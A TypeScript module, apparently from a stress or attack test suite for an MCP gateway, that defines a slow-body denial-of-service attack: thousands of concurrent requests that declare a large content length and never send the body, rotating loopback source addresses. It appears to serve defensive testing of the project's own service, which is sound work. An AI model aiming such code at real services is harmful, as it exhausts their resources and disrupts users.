import type { Attack } from '../attack.ts'
import { callRaw, headOf, mcpHeaders } from '../tools/raw-caller.ts'
import { repeat } from '../tools/repeat.ts'

const ADDRESSES = ['127.0.1.1', '127.0.1.2', '127.0.1.3', '127.0.1.4']

/** Four thousand requests of one key at once, whose bodies are announced and never sent. */
export const unsentBodies: Attack = {
  name: 'unsent-bodies',
  about: '4,000 requests of one key that never send their bodies',
  run({ baseUrl, attacker, victim }, signal, tally) {
    const headers = { ...mcpHeaders(attacker.poor.key, 'tools/call', 'echo'), 'content-length': '100000' }
    const text = headOf(`/v1-beta/mcp/${victim.mcpApp}`, headers)
    return repeat({ perSecond: 1_000, atOnceMax: 4_000 }, signal, tally, async turn => {
      const from = ADDRESSES[turn % ADDRESSES.length] ?? ''
      await callRaw({ baseUrl, text, from, signal, tally })
    })
  },
}
